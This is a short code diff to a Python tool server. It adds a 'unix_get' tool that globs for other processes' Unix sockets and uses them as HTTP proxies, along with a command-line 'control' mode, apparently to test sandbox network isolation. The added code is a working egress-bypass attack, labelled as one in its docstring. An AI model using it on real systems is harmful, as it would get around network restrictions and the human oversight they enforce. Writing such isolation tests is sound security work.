@@ -93,6 +93,39 @@ def udp(host: str, port: int) -> str:
         raise ToolError(f"udp: {e}")
 
 
+def unix_get_impl(pattern: str, address: str) -> str:
+    """Finds unix sockets matching `pattern` and asks each, as an HTTP proxy, for `address`."""
+    import glob
+
+    found = sorted(glob.glob(pattern))
+    if not found:
+        return "no socket found"
+    out = []
+    for path in found:
+        try:
+            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+            s.settimeout(10)
+            s.connect(path)
+            host = urllib.parse.urlsplit(address).netloc
+            s.sendall(f"GET {address} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
+            data = b""
+            while True:
+                chunk = s.recv(65536)
+                if not chunk:
+                    break
+                data += chunk
+            out.append(data.decode(errors="replace"))
+        except OSError as e:
+            out.append(f"{path}: {e}")
+    return "\n".join(out)
+
+
+@server.tool()
+def unix_get(pattern: str, address: str) -> str:
+    """The attack on another server's egress socket: glob for it, use it as a proxy."""
+    return unix_get_impl(pattern, address)
+
+
 @server.tool()
 def proxy_env() -> str:
     """The proxy variables this server sees."""
@@ -100,4 +133,10 @@ def proxy_env() -> str:
 
 
 if __name__ == "__main__":
-    server.run("stdio")
+    import sys
+
+    if len(sys.argv) > 2 and sys.argv[1] == "--unix-get":
+        # The unprotected control, run on the host.
+        print(unix_get_impl(sys.argv[2], sys.argv[3]))
+    else:
+        server.run("stdio")
